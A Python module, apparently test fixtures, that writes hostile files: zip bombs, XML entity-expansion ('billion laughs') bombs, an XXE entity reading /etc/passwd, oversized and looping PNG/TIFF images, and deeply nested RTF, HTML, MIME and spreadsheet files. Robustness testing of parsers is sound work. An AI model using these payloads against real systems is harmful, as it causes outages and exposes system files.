"""Files made to hurt whoever opens them: small on disk, huge or endless inside. Each writer takes the path."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path

TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
SHEETS = (
    'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
)
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OPEN = "urn:oasis:names:tc:opendocument:xmlns"
TEXTS = f'xmlns:office="{OPEN}:office:1.0" xmlns:text="{OPEN}:text:1.0"'
LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
LAUGH = f'<!DOCTYPE x [<!ENTITY a0 "tawa">{LAUGHS}]>'
QUADRATIC = f'<!DOCTYPE x [<!ENTITY a11 "{"tawa" * 25_000}">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY a11 SYSTEM "file:///etc/passwd">]>'

# ---------------------------------------------------------------- archives


def packed(parts: Mapping[str, str | bytes], path: Path | None = None) -> bytes:
    """Return a ZIP of parts; write it too when a path is given."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    if path:
        path.write_bytes(stream.getvalue())
    return stream.getvalue()


def flat_zip(path: Path) -> None:
    """One member of 300 MB of zeros."""
    packed({"nol.txt": bytes(300_000_000)}, path)


def wide_zip(path: Path) -> None:
    """Members of 40 MB each, many times over, none of which is a bomb alone."""
    zeros = packed({"nol.txt": bytes(40_000_000)})
    _overlapping(path, zeros, 60)


def nested_zip(path: Path) -> None:
    """Archives in archives, the innermost of which is a bomb."""
    data = packed({"nol.txt": bytes(100_000_000)})
    for depth in range(40):
        data = packed({f"{depth}.zip": data, f"{depth}.txt": "Surat"})
    path.write_bytes(data)


def swarm_zip(path: Path) -> None:
    """A directory of 65,000 members."""
    packed({f"{number}.txt": "Surat" for number in range(65_000)}, path)


def _overlapping(path: Path, whole: bytes, count: int) -> None:
    """Write an archive whose directory names the same packed bytes again and again."""
    first = whole.index(b"PK\x01\x02")
    last = whole.index(b"PK\x05\x06")
    entry = whole[first:last]
    head = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(entry) * count, first, 0)
    path.write_bytes(whole[:first] + entry * count + head)


# ---------------------------------------------------------------- XML


def docx(path: Path, body: str, head: str = "", **parts: str) -> None:
    """Write a DOCX of a body; `head` stands before the root."""
    document = f"{head}<w:document {WORD}><w:body>{body}</w:body></w:document>"
    packed({"[Content_Types].xml": TYPES, "word/document.xml": document, **parts}, path)


def xlsx(path: Path, rows: str, strings: str = "", head: str = "") -> None:
    """Write an XLSX of one sheet."""
    book = f'<workbook {SHEETS}><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>'
    links = f'<Relationship Id="r1" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
    links += f'<Relationship Id="r2" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/>' if strings else ""
    root = f'<Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/>'
    parts = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": f'<Relationships xmlns="{RELATIONS}">{root}</Relationships>',
        "xl/workbook.xml": book,
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{RELATIONS}">{links}</Relationships>',
        "xl/worksheets/sheet1.xml": f"{head}<worksheet {SHEETS}><sheetData>{rows}</sheetData></worksheet>",
    }
    packed({**parts, **({"xl/sharedStrings.xml": f"{head}<sst {SHEETS}>{strings}</sst>"} if strings else {})}, path)


def odt(path: Path, body: str, head: str = "") -> None:
    """Write an ODT of a body."""
    content = f"{head}<office:document-content {TEXTS}><office:body><office:text>{body}</office:text></office:body>"
    parts = {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content}
    parts["content.xml"] += "</office:document-content>"
    packed(parts, path)


def docx_bomb(head: str) -> Callable[[Path], None]:
    """Return what writes a DOCX that names the entity of a document type 50,000 times."""
    return lambda path: docx(path, f"<w:p><w:r><w:t>Surat{'&a11;' * 50_000}</w:t></w:r></w:p>", head)


def odt_bomb(head: str) -> Callable[[Path], None]:
    """Return what writes an ODT that names the entity of a document type 50,000 times."""
    return lambda path: odt(path, f"<text:p>Surat{'&a11;' * 50_000}</text:p>", head)


def xlsx_bomb(head: str) -> Callable[[Path], None]:
    """Return what writes an XLSX whose shared string names the entity of a document type 50,000 times."""
    cells = '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1"><v>7</v></c></row>'
    return lambda path: xlsx(path, cells, f"<si><t>Surat{'&a11;' * 50_000}</t></si>", head)


def deep_docx(path: Path) -> None:
    """A table in a cell of a table, 100,000 times."""
    many = 100_000
    docx(path, "<w:tbl><w:tr><w:tc>" * many + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * many)


def deep_controls(path: Path) -> None:
    """Rows wrapped in content controls 200 deep, within what the XML reader takes."""
    row = "<w:tr><w:tc><w:p><w:r><w:t>Surat</w:t></w:r></w:p></w:tc></w:tr>"
    docx(path, "<w:tbl>" + "<w:sdt><w:sdtContent>" * 115 + row + "</w:sdtContent></w:sdt>" * 115 + "</w:tbl>")


def far_docx(path: Path) -> None:
    """A million paragraphs, each with a page break."""
    docx(path, '<w:p><w:r><w:t>a</w:t><w:br w:type="page"/></w:r></w:p>' * 900_000)


def inflated_docx(path: Path) -> None:
    """A body of 500 MB."""
    docx(path, " " * 500_000_000)


# ---------------------------------------------------------------- workbooks


def far_workbook(path: Path) -> None:
    """A workbook that spans seventeen billion cells by two of them."""
    xlsx(path, '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


def claimed_workbook(path: Path) -> None:
    """A workbook that claims by its dimension to span seventeen billion cells."""
    xlsx(path, '<row r="1"><c r="A1"><v>1</v></c></row>', head='<?xml version="1.0"?>')
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>')
    packed(parts, path)


def unnamed_workbook(path: Path) -> None:
    """A workbook whose cells have no names, 4,000,000 of them in one row after the other."""
    xlsx(path, ("<row>" + "<c><v>1</v></c>" * 2_000 + "</row>") * 8_000)


def lettered_workbook(path: Path) -> None:
    """A workbook of a small cell and a far one whose name stands in single quotes."""
    xlsx(path, "<row r='1'><c r='A1'><v>1</v></c></row><row r='1048576'><c r='XFD1048576'><v>1</v></c></row>")


def wordy_workbook(path: Path) -> None:
    """A workbook of three million shared strings of which one is used."""
    xlsx(path, '<row r="1"><c r="A1" t="s"><v>0</v></c></row>', "<si><t>Surat</t></si>" * 3_000_000)


def repeating_workbook(path: Path) -> None:
    """A workbook of one long shared string named by 200,000 cells."""
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 200_001))
    xlsx(path, rows, f"<si><t>{'Surat ' * 5_000}</t></si>")


def repeating_sheet(path: Path) -> None:
    """An ODS whose one cell says it is repeated a billion times, in rows that do the same."""
    names = f'{TEXTS} xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
    cell = '<table:table-cell office:value-type="string" table:number-columns-repeated="16384"><text:p>Surat</text:p>'
    row = f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-cell></table:table-row>'
    sheet = f'<table:table table:name="A">{row}</table:table>'
    content = f"<office:document-content {names}><office:body><office:spreadsheet>{sheet}</office:spreadsheet>"
    content += "</office:body></office:document-content>"
    manifest = '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    packed({"mimetype": kind, "META-INF/manifest.xml": manifest, "content.xml": content}, path)


# ---------------------------------------------------------------- pictures


def png(width: int, height: int) -> Callable[[Path], None]:
    """Return what writes a PNG of one colour, one bit a point."""

    def write(path: Path) -> None:
        shrink = zlib.compressobj(9)
        row = bytes(1 + -(-width // 8))
        data = b"".join(shrink.compress(row) for _ in range(height)) + shrink.flush()
        head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
        path.write_bytes(b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", data) + _chunk(b"IEND", b""))

    return write


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def talkative_png(path: Path) -> None:
    """A PNG with 400 MB of compressed remarks."""
    remark = _chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(50_000_000), 9)) * 8
    head = struct.pack(">IIBBBBB", 300, 300, 8, 0, 0, 0, 0)
    data = zlib.compress(bytes(301 * 300))
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + remark + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")
    )


def tiff(entries: Mapping[int, int], count: int = 1, loops: bool = False) -> bytes:
    """Return a TIFF of `count` frames of one white point each; `entries` replace what the tags say."""
    tags = {256: 1, 257: 1, 258: 8, 259: 1, 262: 1, 273: 8, 277: 1, 278: 1, 279: 1, **entries}
    size = 2 + 12 * len(tags) + 4
    out = [b"II*\0", struct.pack("<I", 16), bytes([255] * 8)]
    for index in range(count):
        further = 16 + size * (index + 1) if index + 1 < count else (16 if loops else 0)
        out.append(struct.pack("<H", len(tags)))
        out += [struct.pack("<HHII", tag, 4, 1, value) for tag, value in sorted(tags.items())]
        out.append(struct.pack("<I", further))
    return b"".join(out)


def vast_tiff(path: Path) -> None:
    """A TIFF that says it is four billion points wide and high."""
    path.write_bytes(tiff({256: 2**32 - 1, 257: 2**32 - 1}))


def tall_tiff(path: Path) -> None:
    """A first frame of one point, the second of ten billion."""
    whole = bytearray(tiff({}, 2))
    second = 16 + 2 + 12 * 9 + 4
    for index in range(2):
        struct.pack_into("<I", whole, second + 2 + 12 * index + 8, 100_000)
    path.write_bytes(bytes(whole))


def long_tiff(path: Path) -> None:
    """A TIFF of 100,000 frames."""
    path.write_bytes(tiff({}, 100_000))


def looping_tiff(path: Path) -> None:
    """A TIFF whose last frame is followed by its first."""
    path.write_bytes(tiff({}, 5, loops=True))


def moving_png(path: Path) -> None:
    """An animated PNG of 2,000 frames."""
    from PIL import Image

    frames = [Image.new("L", (210, 210), number % 255) for number in range(2_000)]
    frames[0].save(path, "PNG", save_all=True, append_images=frames[1:])


def moving_webp(path: Path) -> None:
    """An animated WEBP of 300 frames."""
    from PIL import Image

    # Far from one another, or the encoder makes one frame of several.
    frames = [Image.new("RGB", (210, 210), (255 * (number % 2), number % 255, 0)) for number in range(300)]
    frames[0].save(path, "WEBP", save_all=True, append_images=frames[1:])


# ---------------------------------------------------------------- text


def deep_rtf(path: Path) -> None:
    """300,000 groups in each other, none of them closed."""
    path.write_bytes(b"{\\rtf1 Surat " + b"{\\b " * 300_000)


def endless_table(path: Path) -> None:
    """An RTF of a table of 200,000 cells that never ends its row."""
    path.write_bytes(b"{\\rtf1 \\trowd\\intbl " + b"a\\cell " * 200_000 + b"}")


def nested_mail(path: Path) -> None:
    """A mail of 10,000 parts in each other."""
    many = 10_000
    head = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(many))
    path.write_text("From: a@b.id\nSubject: Surat\nMIME-Version: 1.0\n" + head + "Content-Type: text/plain\n\nSurat\n")


def mail_in_mail(path: Path) -> None:
    """A mail in a mail, 3,000 times."""
    inner = "Content-Type: message/rfc822\n\n" * 3_000
    path.write_text("From: a@b.id\nSubject: Surat\nMIME-Version: 1.0\n" + inner + "Subject: dalam\n\nSurat\n")


def crowded_mail(path: Path) -> None:
    """A mail of 30,000 attachments."""
    part = '--b\nContent-Disposition: attachment; filename="a.txt"\n\nSurat\n'
    head = 'From: a@b.id\nSubject: Surat\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n'
    path.write_text(head + part * 30_000 + "--b--\n")


def deep_html(path: Path) -> None:
    """A table in a table, 100,000 times."""
    path.write_text("<html><body>Surat" + "<table><tr><td>" * 100_000)


def wide_html(path: Path) -> None:
    """Rows of which every cell claims to span 60,000 columns."""
    path.write_text("<html><body><table>" + '<tr><td colspan="60000" rowspan="60000">Surat</td></tr>' * 20_000)


def wide_csv(path: Path) -> None:
    """A CSV of one row of five million columns, then rows of one open quotation mark."""
    path.write_text("a;" * 5_000_000 + "\n" + '"' * 1_000_000)
